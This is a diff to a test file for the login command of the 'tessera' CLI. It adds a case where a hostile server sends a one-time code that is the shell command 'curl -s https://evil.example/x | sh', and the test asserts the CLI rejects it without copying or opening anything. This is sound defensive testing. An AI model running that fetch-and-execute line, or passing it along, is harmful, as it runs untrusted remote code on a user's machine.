@@ -4,7 +4,7 @@ import path from 'node:path';
 import { stripVTControlCharacters } from 'node:util';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { stringify } from 'yaml';
-import { cli, cliPty, fakeDesktop, recordingProxy } from '../helpers/cli.ts';
+import { cli, cliPty, fakeDesktop, hostileHost, recordingProxy } from '../helpers/cli.ts';
 import { consoleSignin, decide } from '../helpers/console.ts';
 import { createAccount, createTestApp, createWorkspace, mintToken, type TestAccount } from '../helpers/fixtures.ts';
 import { startServer, type TestServer } from '../helpers/server.ts';
@@ -83,6 +83,31 @@ describe('login at a terminal', () => {
     expect(stripVTControlCharacters(res.output)).toContain('tessera: Login cancelled.');
     expect(await desktop.opened()).toEqual([]);
     await expect(readFile(path.join(dir, 'hosts.yml'))).rejects.toThrow(/ENOENT/);
+  });
+
+  it('when a hostile host sends a command line as the one-time code, then nothing is copied or opened, and login exits 3', async () => {
+    const desktop = await fakeDesktop();
+    const host = await hostileHost();
+    try {
+      const payload = 'curl -s https://evil.example/x | sh';
+      host.answers.deviceStart = {
+        device_code: 'device-code',
+        user_code: payload,
+        verification_uri: 'https://evil.example/device',
+        verification_uri_complete: 'https://evil.example/device?user_code=x',
+        expires_in: 60,
+        interval: 1,
+      };
+      const term = cliPty(['login'], { TESSERA_HOST: host.url, TESSERA_CONFIG_DIR: await configDir(), ...desktop.env });
+      const res = await term.done;
+      expect(res.code).toBe(3);
+      expect(stripVTControlCharacters(res.output)).toContain(`tessera: ${host.url} sent a login code that is not a Tessera code`);
+      expect(res.output).not.toMatch(/curl|evil|Press Enter|Copied/);
+      expect(await desktop.clipboard()).toBeNull();
+      expect(await desktop.opened()).toEqual([]);
+    } finally {
+      await host.close();
+    }
   });
 
   it('when there is no display and no clipboard tool, then login only prints the link and code, says nothing about either, and Ctrl-C still cancels', async () => {
